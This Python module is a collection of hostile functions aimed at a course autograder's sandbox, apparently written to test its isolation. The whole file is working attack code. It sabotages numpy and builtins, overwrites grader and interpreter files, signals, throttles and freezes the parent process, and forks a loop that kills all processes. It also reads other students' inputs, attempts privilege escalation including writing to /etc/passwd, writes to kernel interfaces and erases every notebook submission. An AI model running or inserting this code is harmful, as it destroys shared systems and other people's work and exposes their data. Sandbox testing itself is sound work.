"""Damage what comes after: other exercises, other students, the grader. Never import this."""
# ruff: noqa


def patches_numpy(*args):
    import numpy as np
    for name in ("exp", "log", "sum", "asarray", "zeros", "cumsum", "array"):
        setattr(np, name, None)


def patches_builtins(*args):
    import builtins
    for name in ("len", "sum", "isinstance", "range", "min", "float"):
        setattr(builtins, name, lambda *a, **k: 0)


def patches_math(*args):
    import math
    math.log = math.exp = math.lgamma = lambda *a: 0.0


def turns_warnings_into_errors(*args):
    import warnings, numpy as np
    warnings.simplefilter("error")
    np.seterr(all="raise")


def changes_the_default_dtype(*args):
    import torch
    torch.set_default_dtype(torch.float16)
    torch.set_grad_enabled(False)
    torch.manual_seed(0)


def hooks_imports(*args):
    import sys
    class Finder:
        def find_spec(self, *a):
            raise ImportError("no more imports")
    sys.meta_path.insert(0, Finder())
    sys.modules.clear()


def shadows_modules(*args):
    import os
    for folder in ("/tmp", "/box", "/dev/shm", os.path.expanduser("~"), os.path.dirname(os.__file__)):
        for name in ("numpy", "json", "grading", "sitecustomize", "usercustomize", "course_utils", "answering"):
            try:
                with open(f"{folder}/{name}.py", "w") as file:
                    file.write("import os; os._exit(0)")
            except OSError:
                pass


def rewrites_the_worker(*args):
    for name in ("grading/inside/worker", "grading/inside/answering", "grading/inside/program", "course_utils/asking/ask",
                 "course_utils/asking/serialization", "course_utils/__init__"):
        with open(f"/box/{name}.py", "a") as file:
            file.write("raise SystemExit")


def rewrites_the_interpreter(*args):
    import glob, sys
    for path in [sys.executable, *glob.glob(sys.prefix + "/lib/*/site-packages/numpy/__init__.py")]:
        with open(path, "a") as file:
            file.write("raise SystemExit")


def limits_the_parent(*args):
    import os, resource
    for which in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        resource.prlimit(os.getppid(), which, (1, 1))


def limits_the_parents_time(*args):
    import os, resource
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))


def slows_the_parent(*args):
    import os
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))


def moves_the_parent(*args):
    import os
    os.sched_setaffinity(os.getppid(), {0})


def signals_the_parent(*args):
    import os
    for number in range(1, 65):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass


def stops_the_whole_group(*args):
    import os, signal
    os.killpg(os.getpgid(os.getppid()), signal.SIGSTOP)


def leaves_a_timer(*args):
    import os, threading
    threading.Timer(0.5, os._exit, (0,)).start()


def leaves_something_at_exit(*args):
    import atexit, os
    atexit.register(os.system, "sleep 1000 &")
    class Late:
        def __del__(self):
            import os
            os.system("sleep 1000 &")
    globals()["late"] = Late()


def leaves_a_hunter(*args):
    import os, time
    if os.fork() == 0:
        os.setsid()
        me = os.getpid()
        while True:
            for name in filter(str.isdecimal, os.listdir("/proc")):
                if int(name) not in (1, me):
                    try:
                        os.kill(int(name), 9)
                    except OSError:
                        pass
            time.sleep(0.01)


def leaves_children_that_ignore_signals(*args):
    import os, signal, time
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)


def leaves_shared_memory(*args):
    from multiprocessing import shared_memory
    shared_memory.SharedMemory("left", create=True, size=1 << 20)


def leaves_a_locked_folder(*args):
    import os
    os.makedirs("/tmp/a/b/c")
    os.symlink("/", "/tmp/a/root")
    os.symlink("/box", "/dev/shm/box")
    os.chmod("/tmp/a/b", 0)
    os.chmod("/tmp/a", 0)


def unblocks_the_pipes(*args):
    import fcntl, os
    for fd in range(64):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
            fcntl.fcntl(fd, 1031, 4096)
        except OSError:
            pass


def reads_the_questions_of_others(*args):
    import os, threading
    def steal():
        for fd in range(64):
            try:
                os.read(fd, 1 << 20)
            except OSError:
                pass
    for _ in range(4):
        threading.Thread(target=steal, daemon=True).start()
    import time
    time.sleep(0.3)


def becomes_root(*args):
    import ctypes, os
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
        try:
            call()
        except OSError:
            pass
    ctypes.CDLL(None).capset(b"\x22\x05\x08\x20" + b"\0" * 4, b"\xff" * 24)
    open("/etc/passwd", "a").write("x")


def runs_setuid_programs(*args):
    import glob, os, subprocess
    for path in glob.glob("/usr/bin/*"):
        if os.stat(path).st_mode & 0o4000:
            subprocess.run([path, "-c", "id"], timeout=1, capture_output=True, stdin=subprocess.DEVNULL)


def makes_namespaces(*args):
    import ctypes
    libc = ctypes.CDLL(None)
    for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
        libc.unshare(flag)
    libc.mount(b"none", b"/box", b"tmpfs", 0, None)
    libc.umount2(b"/box", 2)
    libc.chroot(b"/tmp")
    libc.pivot_root(b"/tmp", b"/tmp")


def mounts_over_the_box(*args):
    import ctypes, os
    pid = os.fork()
    if pid == 0:
        libc = ctypes.CDLL(None)
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None)
        os._exit(0)
    os.waitpid(pid, 0)


def changes_the_clock(*args):
    import time
    time.clock_settime(time.CLOCK_REALTIME, 0)


def writes_to_the_kernel(*args):
    import glob
    for path in ("/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/sys/power/state",
                 *glob.glob("/dev/*")):
        try:
            with open(path, "w") as file:
                file.write("-1000")
        except OSError:
            pass


def traces_itself(*args):
    import ctypes
    ctypes.CDLL(None).ptrace(0, 0, 0, 0)
    raise SystemExit


def traces_every_line(*args):
    import sys
    def trace(*a):
        raise RuntimeError("traced")
    sys.settrace(trace)
    sys.setprofile(trace)
    sys.setrecursionlimit(20)


def changes_directory_and_mask(*args):
    import os
    os.chdir("/")
    os.umask(0o777)
    os.environ.clear()


def searches_for_submissions(*args):
    import glob
    for path in glob.glob("/**/*.ipynb", recursive=True):
        open(path, "w").close()
        return "overwritten"
